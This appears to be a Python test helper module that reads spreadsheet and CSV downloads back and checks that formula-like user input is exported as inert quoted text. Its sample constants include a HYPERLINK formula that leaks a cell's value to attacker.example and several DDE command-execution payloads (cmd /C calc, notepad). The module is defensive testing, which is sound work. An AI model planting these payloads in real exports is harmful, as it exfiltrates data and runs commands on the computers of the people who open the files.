"""Reading downloads back in tests: the streamed bytes, the xlsx cells, the csv rows, and the checks
that formula-like text came out as text (DESIGN §16)."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

from asgiref.sync import async_to_sync
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

# A check-out note typed on the phone (issue "[1/7] Trust before deployment", finding 2).
HOSTILE_NOTE = '=HYPERLINK("http://attacker.example/?x="&A2,"Klik")'
# One of each other prefix a spreadsheet reads as the start of a formula.
HOSTILE_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_TEXT = "+1+cmd|' /C notepad'!A0"
HOSTILE_MINUS = "-2+3+cmd|' /C calc'!A0"
# A date or a clock time/duration written as text (what HR cannot compute with).
ISO_DATE = re.compile(r"\d{4}-\d{2}-\d{2}|\d{2}/\d{2}/\d{4}")
CLOCK = re.compile(r"\d{1,3}[:.]\d{2}(?:[:.]\d{2})?")


def downloaded(response: Any) -> bytes:
    """The bytes of a streamed (async iterator) or plain response."""
    if not getattr(response, "streaming", False):
        return bytes(response.content)

    async def collect() -> bytes:
        return b"".join([chunk async for chunk in response.streaming_content])

    return async_to_sync(collect)()


def xlsx_cells(content: bytes) -> list[Cell]:
    """Every cell of every sheet."""
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text[1:]), delimiter=";") for cell in row]


def assert_xlsx_text(content: bytes, *values: str) -> None:
    """No formula anywhere; each value is in the file, unchanged, as a quote-prefixed string cell."""
    cells = xlsx_cells(content)
    formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
    assert formulas == []
    for value in values:
        found = [cell for cell in cells if cell.value == value]
        assert found, f"{value!r} is not in the file"
        assert [(cell.data_type, cell.quotePrefix) for cell in found] == [("s", True)] * len(found)


def assert_csv_text(content: bytes, *values: str) -> None:
    """Each value is in the file behind a `'`, never bare."""
    cells = csv_cells(content)
    for value in values:
        assert "'" + value in cells, f"{value!r} is not in the file as text"
        assert value not in cells


def xlsx_rows(content: bytes) -> list[list[Cell]]:
    """The cells of the first sheet, row by row (with their data type and number format)."""
    book = load_workbook(io.BytesIO(content))
    return [list(row) for row in book.worksheets[0].iter_rows()]


def assert_no_internal_text(content: bytes) -> None:
    """DESIGN §18: no internal API path and no date, time or number written as text in an xlsx."""
    texts = [cell.value for cell in xlsx_cells(content) if isinstance(cell.value, str)]
    assert not [text for text in texts if "/api/" in text or "/media/" in text]
    assert not [text for text in texts if ISO_DATE.fullmatch(text) or CLOCK.fullmatch(text)]
